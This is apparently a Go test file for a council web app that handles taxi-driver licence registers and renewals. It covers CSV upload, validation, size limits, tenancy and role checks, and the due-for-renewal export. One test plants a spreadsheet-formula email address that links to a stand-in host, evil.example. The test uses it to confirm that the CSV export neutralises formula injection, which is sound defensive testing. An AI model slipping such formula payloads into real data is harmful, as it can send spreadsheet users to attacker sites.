package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	_ "github.com/mattn/go-sqlite3"

	"github.com/herts-msp/taxi-renewals/internal/domain"
	"github.com/herts-msp/taxi-renewals/internal/testdb"
	"github.com/herts-msp/taxi-renewals/internal/testenv"
)

// regFileOf writes drivers as a register file.
func regFileOf(t testing.TB, ds []domain.Driver) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := domain.WriteRegister(&b, ds); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// regDrivers makes n drivers "PFX-0"... expiring from 30 days on.
func regDrivers(prefix string, n int) []domain.Driver {
	today := domain.DateOf(testenv.Start)
	names := [][2]string{{"Zoë", "Łukasz"}, {"小龍", "李"}, {"Siobhán", "Ó Briain"}}
	ds := make([]domain.Driver, n)
	for i := range ds {
		exp := today.AddDays(30 + i%300)
		ds[i] = domain.Driver{LicenceNumber: fmt.Sprintf("%s-%d", prefix, i), GivenNames: names[i%3][0], FamilyName: names[i%3][1],
			DateOfBirth: domain.Date{Year: 1970, Month: 1 + time.Month(i%12), Day: 1 + i%28}, Email: fmt.Sprintf("d%d@example.org", i),
			LicenceStart: exp.AddYears(-3), LicenceExpiry: exp, Status: "active"}
	}
	return ds
}

// regPost sends a multipart form with the CSRF token and, when content is not nil, a file,
// as a browser's upload form does. size is the file's length, or -1 to send the body without
// a length (chunked).
func regPost(t *testing.T, env *testenv.Env, b *testenv.Browser, path, fileName string, content io.Reader, size int64) testenv.Page {
	t.Helper()
	var head bytes.Buffer
	mw := multipart.NewWriter(&head)
	if err := mw.WriteField("_csrf", b.CSRF); err != nil {
		t.Fatal(err)
	}
	if content == nil {
		content, size = strings.NewReader(""), 0
	} else if _, err := mw.CreateFormFile("file", fileName); err != nil {
		t.Fatal(err)
	}
	tail := "\r\n--" + mw.Boundary() + "--\r\n" // what mw.Close would write, after the file
	req, err := http.NewRequestWithContext(context.Background(), http.MethodPost, env.Server.URL+path,
		io.MultiReader(bytes.NewReader(head.Bytes()), content, strings.NewReader(tail)))
	if err != nil {
		t.Fatal(err)
	}
	req.ContentLength = -1
	if size >= 0 {
		req.ContentLength = int64(head.Len()) + size + int64(len(tail))
	}
	req.Header.Set("Content-Type", mw.FormDataContentType())
	for k, v := range b.Header {
		req.Header[k] = v
	}
	resp, err := b.Client.Do(req)
	if err != nil {
		t.Fatalf("POST %s: %v", path, err)
	}
	defer resp.Body.Close()
	out, _ := io.ReadAll(resp.Body)
	return testenv.Page{Status: resp.StatusCode, Body: string(out), Header: resp.Header, Location: resp.Header.Get("Location")}
}

func regUpload(t *testing.T, env *testenv.Env, b *testenv.Browser, content []byte) testenv.Page {
	t.Helper()
	b.Get("/staff/register")
	return regPost(t, env, b, "/staff/register/import", "register.csv", bytes.NewReader(content), int64(len(content)))
}

// regTables counts the rows an import could write.
func regTables(t *testing.T, env *testenv.Env) map[string]int {
	t.Helper()
	db := testdb.Raw(t, env.Config.DatabaseURL)
	out := map[string]int{}
	for _, table := range []string{"drivers", "register_imports", "audit_log"} {
		var n int
		if err := db.QueryRow("SELECT COUNT(*) FROM " + table).Scan(&n); err != nil {
			t.Fatal(err)
		}
		out[table] = n
	}
	return out
}

func regWant(t *testing.T, p testenv.Page, status int, contains ...string) {
	t.Helper()
	if p.Status != status {
		t.Fatalf("status %d, want %d\n%s", p.Status, status, testenv.Excerpt(p.Body))
	}
	for _, s := range contains {
		if !strings.Contains(p.Body, s) {
			t.Errorf("page lacks %q\n%s", s, testenv.Excerpt(p.Body))
		}
	}
}

var importPath = regexp.MustCompile(`^/staff/register/import/(\d+)$`)

func TestRegisterImportOverHTTP(t *testing.T) {
	t.Parallel()
	env := testenv.New(t, testenv.Options{})
	b := env.SignInStaff(t, env.AddStaff(t, domain.RoleOfficer, "dacorum"))
	regWant(t, b.Get("/staff/register"), http.StatusOK, "Register of licensed drivers", "Dacorum Borough Council", "Load the register", `enctype="multipart/form-data"`)

	ds := regDrivers("DACR", 3)
	ds = append(ds, env.Drivers[testenv.DueDacorum]) // already on the register
	ds[3].Email, ds[3].Status = "zoe.new@example.org", "suspended"
	ds[2].Email = ""
	file := regFileOf(t, ds)

	p := regUpload(t, env, b, file)
	if p.Status != http.StatusSeeOther || !importPath.MatchString(p.Location) {
		t.Fatalf("upload: %d %s\n%s", p.Status, p.Location, testenv.Excerpt(p.Body))
	}
	preview := p.Location
	p = b.Follow(p)
	regWant(t, p, http.StatusOK, "Check the register file before loading it", "register.csv",
		`<th scope="row" class="table__header">Drivers to add</th><td class="table__cell table__cell--numeric">3</td>`,
		`<th scope="row" class="table__header">Drivers to update</th><td class="table__cell table__cell--numeric">1</td>`,
		"Email: DAC-1001@example.org → <strong>zoe.new@example.org</strong>", "Status: active → <strong>suspended</strong>",
		"On the register but missing from the file", testenv.NotDue, "Zoë Łukasz", "小龍 李",
		"line 4, column email: is empty: this driver cannot sign in online or get reminder emails", "Load the register")
	before := regTables(t, env)
	if before["drivers"] != 4 {
		t.Fatalf("the upload wrote drivers: %v", before)
	}

	p = b.Post(preview+"/apply", nil)
	if p.Status != http.StatusSeeOther || p.Location != preview+"?result=applied" {
		t.Fatalf("apply: %d %s\n%s", p.Status, p.Location, testenv.Excerpt(p.Body))
	}
	regWant(t, b.Follow(p), http.StatusOK, "The register has been loaded: 3 added, 1 updated, 0 unchanged")
	d, err := env.Store.DriverByLicence(context.Background(), env.Drivers[testenv.DueDacorum].CouncilID, testenv.DueDacorum)
	if err != nil || d.Status != "suspended" || d.Email != "zoe.new@example.org" {
		t.Errorf("update not applied: %+v %v", d, err)
	}
	if _, err := env.Store.DriverByLicence(context.Background(), d.CouncilID, testenv.NotDue); err != nil {
		t.Errorf("a driver missing from the file was deleted: %v", err)
	}

	t.Run("applying again changes nothing and says so", func(t *testing.T) {
		before := regTables(t, env)
		p := b.Post(preview+"/apply", nil)
		if p.Status != http.StatusSeeOther || p.Location != preview+"?result=again" {
			t.Fatalf("%d %s", p.Status, p.Location)
		}
		regWant(t, b.Follow(p), http.StatusOK, "This file had already been loaded on")
		if diff := cmp.Diff(before, regTables(t, env)); diff != "" {
			t.Errorf("(-before +after):\n%s", diff)
		}
	})
	t.Run("uploading the same file again would change nothing and says so", func(t *testing.T) {
		p := b.Follow(regUpload(t, env, b, file))
		regWant(t, p, http.StatusOK, "Loading this file would change nothing", "This same file was already loaded on")
	})
	t.Run("the register page lists the imports", func(t *testing.T) {
		regWant(t, b.Get("/staff/register"), http.StatusOK, "Loaded</strong> 3 added, 1 updated", "Not loaded", "<dd class=\"summary-list__value\">6</dd>")
	})
	t.Run("search the register", func(t *testing.T) {
		p := b.Get("/staff/register/drivers?q=" + url.QueryEscape("李"))
		regWant(t, p, http.StatusOK, "1 driver matching “李”", "DACR-1")
		regWant(t, b.Get("/staff/register/drivers?q=dacr-"), http.StatusOK, "3 drivers matching")
		regWant(t, b.Get("/staff/register/drivers"), http.StatusOK, "6 drivers")
	})
}

func TestRegisterUploadRefusals(t *testing.T) {
	t.Parallel()
	env := testenv.New(t, testenv.Options{})
	b := env.SignInStaff(t, env.AddStaff(t, domain.RoleOfficer, "dacorum"))
	good := string(regFileOf(t, regDrivers("DACR", 5)))
	lines := strings.Split(good, "\r\n")
	for _, tt := range []struct {
		name    string
		content string
		want    []string
	}{
		{"bad date and a duplicate", strings.Replace(good, lines[2], strings.Replace(lines[2], "1970-02-02", "31/02/1970", 1), 1) + lines[1] + "\r\n",
			[]string{"The file has 2 problems, so nothing has been loaded.", `line 3, column date_of_birth: &#34;31/02/1970&#34; is not a real date`,
				"line 7, column licence_number: DACR-0 is also on line 2: each licence number can appear only once"}},
		{"wrong columns", strings.Replace(good, "given_names", "first_name", 1), []string{
			`line 1, column &#34;first_name&#34;: is not a register column.`, "line 1, column given_names: is missing from the header row"}},
		{"another council's licences", good + testenv.DueWatford + ",A,B,1980-01-01,,,,2024-01-01,2027-01-01,active\r\n",
			[]string{"licence WAT-2002 is on Watford Borough Council&#39;s register, not this council&#39;s"}},
		{"an empty file", "", []string{"The file is empty."}},
		{"a header only", lines[0] + "\r\n", []string{"The file has a header row but no drivers."}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			before := regTables(t, env)
			p := regUpload(t, env, b, []byte(tt.content))
			regWant(t, p, http.StatusUnprocessableEntity, append([]string{"<title>Error: Register of licensed drivers", `href="#file"`}, tt.want...)...)
			if diff := cmp.Diff(before, regTables(t, env)); diff != "" {
				t.Errorf("something was written (-before +after):\n%s", diff)
			}
		})
	}
	t.Run("no file chosen", func(t *testing.T) {
		b.Get("/staff/register")
		p := regPost(t, env, b, "/staff/register/import", "", nil, 0)
		regWant(t, p, http.StatusUnprocessableEntity, "Choose the register file (CSV) to upload")
	})
	t.Run("not a multipart form", func(t *testing.T) {
		b.Get("/staff/register")
		regWant(t, b.Post("/staff/register/import", url.Values{"file": {"x"}}), http.StatusUnprocessableEntity, "Choose the register file (CSV) to upload")
	})
}

// zeros is an endless reader of CSV-looking bytes.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'a'
		if i%80 == 79 {
			p[i] = '\n'
		}
	}
	return len(p), nil
}

func TestRegisterUploadTooLarge(t *testing.T) {
	t.Parallel()
	env := testenv.New(t, testenv.Options{})
	b := env.SignInStaff(t, env.AddStaff(t, domain.RoleOfficer, "dacorum"))
	before := regTables(t, env)
	const fifty = 50 << 20
	t.Run("50 MB with its length given", func(t *testing.T) {
		b.Get("/staff/register")
		p := regPost(t, env, b, "/staff/register/import", "big.csv", io.LimitReader(zeros{}, fifty), fifty)
		regWant(t, p, http.StatusRequestEntityTooLarge, "too large")
	})
	t.Run("50 MB sent without a length", func(t *testing.T) {
		b.Get("/staff/register")
		p := regPost(t, env, b, "/staff/register/import", "big.csv", io.LimitReader(zeros{}, fifty), -1)
		if p.Status < 400 || p.Status >= 500 {
			t.Fatalf("status %d\n%s", p.Status, testenv.Excerpt(p.Body))
		}
	})
	if diff := cmp.Diff(before, regTables(t, env)); diff != "" {
		t.Errorf("something was written (-before +after):\n%s", diff)
	}
}

// TestRegisterUploadLargerThanAForm loads 10,000 drivers (about 1 MB) through the page: the
// upload route takes up to 20 MB while every other route keeps the 64 KB form limit.
func TestRegisterUploadLargerThanAForm(t *testing.T) {
	t.Parallel()
	env := testenv.New(t, testenv.Options{})
	b := env.SignInStaff(t, env.AddStaff(t, domain.RoleOfficer, "dacorum"))
	file := regFileOf(t, regDrivers("DACR", 10000))
	p := regUpload(t, env, b, file)
	if p.Status != http.StatusSeeOther {
		t.Fatalf("upload: %d\n%s", p.Status, testenv.Excerpt(p.Body))
	}
	preview := p.Location
	regWant(t, b.Follow(p), http.StatusOK, "(first 50 of 10000)")
	start := time.Now()
	p = b.Post(preview+"/apply", nil)
	if p.Status != http.StatusSeeOther {
		t.Fatalf("apply: %d\n%s", p.Status, testenv.Excerpt(p.Body))
	}
	t.Logf("applied 10,000 rows over HTTP in %v", time.Since(start).Round(time.Millisecond))
	regWant(t, b.Follow(p), http.StatusOK, "10000 added")
	t.Run("other routes keep the form limit", func(t *testing.T) {
		b.Get("/staff/register")
		p := b.Post("/staff/register/import/1/apply", url.Values{"padding": {strings.Repeat("x", 70<<10)}})
		regWant(t, p, http.StatusRequestEntityTooLarge)
	})
}

func TestRegisterTenancyOverHTTP(t *testing.T) {
	t.Parallel()
	env := testenv.New(t, testenv.Options{})
	officer := env.SignInStaff(t, env.AddStaff(t, domain.RoleOfficer, "dacorum"))
	other := env.SignInStaff(t, env.AddStaff(t, domain.RoleOfficer, "watford"))
	analyst := env.SignInStaff(t, env.AddStaff(t, domain.RoleAnalyst, ""))
	file := regFileOf(t, regDrivers("DACR", 3))
	p := regUpload(t, env, officer, file)
	if p.Status != http.StatusSeeOther {
		t.Fatalf("upload: %d", p.Status)
	}
	preview := p.Location
	before := regTables(t, env)

	regWant(t, other.Get(preview), http.StatusNotFound)
	other.Get("/staff/register")
	regWant(t, other.Post(preview+"/apply", nil), http.StatusNotFound)
	regWant(t, other.Get("/staff/due?council=dacorum"), http.StatusNotFound)
	regWant(t, other.Get("/staff/register/drivers?council=dacorum"), http.StatusNotFound)
	regWant(t, other.Get("/staff/due.csv?council=dacorum"), http.StatusNotFound)

	regWant(t, analyst.Get(preview), http.StatusOK, "Drivers to add")
	if strings.Contains(analyst.Get(preview).Body, "/apply") {
		t.Error("the analyst is offered the apply button")
	}
	analyst.Get("/staff/register")
	regWant(t, analyst.Post(preview+"/apply", nil), http.StatusForbidden)
	regWant(t, regPost(t, env, analyst, "/staff/register/import", "r.csv", bytes.NewReader(file), int64(len(file))), http.StatusForbidden)
	if diff := cmp.Diff(before, regTables(t, env)); diff != "" {
		t.Errorf("refused requests wrote (-before +after):\n%s", diff)
	}

	p = analyst.Get("/staff/register")
	regWant(t, p, http.StatusOK, "Choose a council")
	if strings.Contains(p.Body, "Load the register") {
		t.Error("the analyst is offered the upload form")
	}
	regWant(t, analyst.Get("/staff/register?council=dacorum"), http.StatusOK, "Dacorum Borough Council", "Drivers on the register")
	regWant(t, analyst.Get("/staff/register?council=gotham"), http.StatusNotFound)
	regWant(t, officer.Get("/staff/register/import/999999"), http.StatusNotFound)
	regWant(t, officer.Get("/staff/register/import/abc"), http.StatusNotFound)
}

func TestDueForRenewalOverHTTP(t *testing.T) {
	t.Parallel()
	env := testenv.New(t, testenv.Options{})
	officer := env.SignInStaff(t, env.AddStaff(t, domain.RoleOfficer, "dacorum"))

	// A driver whose email address a spreadsheet would run as a formula.
	ds := regDrivers("DACR", 1)
	ds[0].Email = `=HYPERLINK("http://evil.example/?x",1)@example.org`
	p := regUpload(t, env, officer, regFileOf(t, ds))
	if p.Status != http.StatusSeeOther {
		t.Fatalf("upload: %d\n%s", p.Status, testenv.Excerpt(p.Body))
	}
	if p = officer.Post(p.Location+"/apply", nil); p.Status != http.StatusSeeOther {
		t.Fatalf("apply: %d", p.Status)
	}
	if _, err := env.Service.SendReminders(context.Background(), "cli:test", ""); err != nil {
		t.Fatal(err)
	}

	p = officer.Get("/staff/due")
	regWant(t, p, http.StatusOK, "Drivers due for renewal", "2 active drivers whose licence expires between 26 November 2026 and 24 February 2027",
		testenv.DueDacorum, "DACR-0", "Not issued", `value="90"`)
	if strings.Contains(p.Body, testenv.NotDue) || strings.Contains(p.Body, testenv.Expired) || strings.Contains(p.Body, testenv.DueWatford) {
		t.Errorf("lists a driver not due, expired or of another council\n%s", testenv.Excerpt(p.Body))
	}
	if i, j := strings.Index(p.Body, "DACR-0"), strings.Index(p.Body, testenv.DueDacorum); i > j {
		t.Error("not sorted by expiry")
	}
	regWant(t, officer.Get("/staff/due?days=365"), http.StatusOK, testenv.NotDue)
	for _, bad := range []string{"0", "366", "abc", "-1"} {
		regWant(t, officer.Get("/staff/due?days="+bad), http.StatusUnprocessableEntity, "<title>Error: Due for renewal", `href="#days"`)
	}

	p = officer.Get("/staff/due.csv")
	if p.Status != http.StatusOK || p.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
		!strings.HasPrefix(p.Header.Get("Content-Disposition"), `attachment; filename="due-for-renewal-dacorum-2026-11-26-90days.csv"`) {
		t.Fatalf("csv: %d %v", p.Status, p.Header)
	}
	if !strings.HasPrefix(p.Body, "\ufeffcouncil,licence_number,") || !strings.Contains(p.Body, "\r\n") {
		t.Errorf("no BOM, header or CRLF: %q", p.Body[:min(80, len(p.Body))])
	}
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(p.Body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"council", "licence_number", "given_names", "family_name", "email", "phone", "licence_expiry", "days_left", "awareness", "renewal_status", "renewal_reference", "reminders_sent"},
		{"dacorum", "DACR-0", "Zoë", "Łukasz", `'=HYPERLINK("http://evil.example/?x",1)@example.org`, "", "2026-12-26", "30", "none", "", "", "30"},
		{"dacorum", testenv.DueDacorum, "Zoë", "O’Brien-Test", "DAC-1001@example.org", "07700900123", "2027-01-05", "40", "none", "", "", "60"},
	}
	if diff := cmp.Diff(want, records); diff != "" {
		t.Errorf("csv (-want +got):\n%s", diff)
	}

	t.Run("analysts choose a council", func(t *testing.T) {
		analyst := env.SignInStaff(t, env.AddStaff(t, domain.RoleAnalyst, ""))
		regWant(t, analyst.Get("/staff/due"), http.StatusOK, "Choose a council")
		if p := analyst.Get("/staff/due.csv"); p.Status != http.StatusSeeOther || p.Location != "/staff/due" {
			t.Errorf("csv without a council: %d %s", p.Status, p.Location)
		}
		regWant(t, analyst.Get("/staff/due?council=watford"), http.StatusOK, testenv.DueWatford, "/staff/due.csv?council=watford")
		regWant(t, analyst.Get("/staff/due.csv?council=watford&days=30"), http.StatusOK, "watford,"+testenv.DueWatford)
	})
}
